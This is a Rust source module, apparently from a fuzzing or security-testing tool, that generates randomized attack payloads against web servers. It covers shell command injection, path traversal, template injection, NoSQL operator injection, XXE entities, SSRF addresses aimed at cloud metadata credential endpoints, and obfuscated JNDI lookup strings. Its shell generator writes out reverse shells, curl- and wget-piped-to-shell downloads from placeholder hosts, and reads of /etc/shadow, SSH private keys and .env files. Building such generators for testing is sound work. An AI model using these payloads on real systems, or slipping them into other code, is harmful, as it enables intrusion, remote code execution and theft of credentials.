//! What steers a server: shells, paths, template engines, document databases, XML, requests of its own, look-ups.

use super::super::random::Draw;
use super::{disguise, one};

/// A shell command behind a value.
pub fn command(draw: &mut Draw) -> String {
    let command = shell(draw);
    let value = one(draw, &["", "1", "lamp", "127.0.0.1", "x.png"]);
    let text = match draw.below(8) {
        0 => format!("{value};{command}"),
        1 => format!("{value}|{command}"),
        2 => format!("{value}&&{command}"),
        3 => format!("{value}$({command})"),
        4 => format!("{value}`{command}`"),
        5 => format!("{value}||{command}#"),
        6 => format!("{value}\n{command}"),
        _ => format!("{value} & {command} &"),
    };
    disguise::shell(&text, draw)
}

fn shell(draw: &mut Draw) -> String {
    let host = format!("{}.example", draw.hex(6));
    match draw.below(9) {
        0 => format!("cat {}", file(draw)),
        1 => one(
            draw,
            &["id", "whoami", "uname -a", "hostname", "env", "ls -la /"],
        )
        .to_owned(),
        2 => format!("curl http://{host}/{}|sh", draw.hex(3)),
        3 => format!("wget -qO- {host}/x | bash"),
        4 => format!("ping -c {} {host}", 1 + draw.below(9)),
        5 => format!("sleep {}", 3 + draw.below(15)),
        6 => format!("nc -e /bin/sh {host} {}", 1_024 + draw.below(60_000)),
        7 => format!("nslookup `whoami`.{host}"),
        _ => format!(
            "bash -i >& /dev/tcp/{host}/{} 0>&1",
            1_024 + draw.below(60_000)
        ),
    }
}

fn file(draw: &mut Draw) -> &'static str {
    one(
        draw,
        &[
            "/etc/passwd",
            "/etc/shadow",
            "/proc/self/environ",
            "/root/.ssh/id_rsa",
            "/var/log/auth.log",
            "/app/.env",
            "/etc/hosts",
            "/windows/win.ini",
        ],
    )
}

/// A path that climbs.
pub fn path(draw: &mut Draw) -> String {
    let up = one(
        draw,
        &[
            "../",
            "../",
            "..\\",
            "....//",
            "..;/",
            "..././",
            "%2e%2e/",
            "..%2f",
            "..%5c",
            "%c0%ae%c0%ae/",
        ],
    );
    let start = one(draw, &["", "", "/", "images/", "./", "static/"]);
    let end = one(draw, &["", "", "", "%00", "%00.png", "?", "#.jpg"]);
    match draw.below(6) {
        0 => format!("file://{}", file(draw)),
        1 => file(draw).to_owned(),
        2 => format!(
            "php://filter/convert.base64-encode/resource={}",
            one(draw, &["index", "config", "../config"])
        ),
        _ => format!(
            "{start}{}{}{end}",
            up.repeat(2 + draw.below(8)),
            file(draw).trim_start_matches('/')
        ),
    }
}

/// An expression for a template engine.
pub fn template(draw: &mut Draw) -> String {
    let (a, b) = (10 + draw.below(900), 2 + draw.below(90));
    let inner = match draw.below(8) {
        0 | 1 => format!("{a}*{b}"),
        2 => "config.items()".to_owned(),
        3 => "''.__class__.__mro__[1].__subclasses__()".to_owned(),
        4 => "self.__init__.__globals__.__builtins__".to_owned(),
        5 => "request.application.__globals__".to_owned(),
        6 => format!(
            "cycler.__init__.__globals__.os.popen('{}').read()",
            shell(draw)
        ),
        _ => "T(java.lang.Runtime).getRuntime().exec('id')".to_owned(),
    };
    match draw.below(7) {
        0 | 1 => format!("{{{{{inner}}}}}"),
        2 => format!("${{{inner}}}"),
        3 => format!("#{{{inner}}}"),
        4 => format!("<%= {inner} %>"),
        5 => format!("*{{{inner}}}"),
        _ => format!("{{% print({inner}) %}}"),
    }
}

/// An operator in place of a value; a JSON text.
pub fn nosql(draw: &mut Draw) -> String {
    let n = draw.below(90);
    match draw.below(7) {
        0 => r#"{"$ne":null}"#.to_owned(),
        1 => r#"{"$gt":""}"#.to_owned(),
        2 => format!(r#"{{"$regex":"^{}"}}"#, draw.hex(1 + n % 4)),
        3 => format!(r#"{{"$where":"sleep({n}000)"}}"#),
        4 => r#"{"$in":["admin","root"]}"#.to_owned(),
        5 => format!(r#"{{"$where":"this.password.length > {n}"}}"#),
        _ => r#"{"$or":[{},{"a":"a"}]}"#.to_owned(),
    }
}

/// A document with an entity.
pub fn xml(draw: &mut Draw) -> String {
    let name = draw.hex(3);
    let source = match draw.below(4) {
        0 => format!("file://{}", file(draw)),
        1 => format!("http://{}.example/{name}", draw.hex(5)),
        2 => "php://filter/read=convert.base64-encode/resource=/etc/passwd".to_owned(),
        _ => "expect://id".to_owned(),
    };
    match draw.below(3) {
        0 => format!(
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x{name} SYSTEM \"{source}\">]><r>&x{name};</r>"
        ),
        1 => format!("<!DOCTYPE r [<!ENTITY % p{name} SYSTEM \"{source}\"> %p{name};]><r/>"),
        _ => format!(
            "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{source}\"/></x>"
        ),
    }
}

/// An address that only the server can reach.
pub fn ssrf(draw: &mut Draw) -> String {
    let host = one(
        draw,
        &[
            "169.254.169.254",
            "127.0.0.1",
            "localhost",
            "[::1]",
            "0x7f000001",
            "2130706433",
            "0",
            "metadata.google.internal",
            "10.0.0.1",
            "[::ffff:127.0.0.1]",
            "127.1",
            "169.254.169.254.nip.io",
        ],
    );
    let rest = one(
        draw,
        &[
            "/latest/meta-data/iam/security-credentials/",
            "/",
            ":6379/",
            ":9200/_cat/indices",
            ":2375/containers/json",
            "/computeMetadata/v1/",
            "/server-status",
            ":8500/v1/agent/self",
        ],
    );
    let scheme = one(
        draw,
        &[
            "http://",
            "http://",
            "http://",
            "https://",
            "gopher://",
            "dict://",
            "//",
            "http://shop.example@",
        ],
    );
    format!("{scheme}{host}{rest}")
}

/// A look-up in a text that is logged.
pub fn lookup(draw: &mut Draw) -> String {
    let host = format!("{}.example/{}", draw.hex(6), draw.hex(2));
    let scheme = one(draw, &["ldap", "ldaps", "rmi", "dns", "iiop"]);
    match draw.below(5) {
        0 | 1 => format!("${{jndi:{scheme}://{host}}}"),
        2 => format!("${{${{lower:j}}ndi:{scheme}://{host}}}"),
        3 => format!("${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{scheme}://{host}}}"),
        _ => format!("${{jndi:{scheme}://${{env:USER}}.{host}}}"),
    }
}
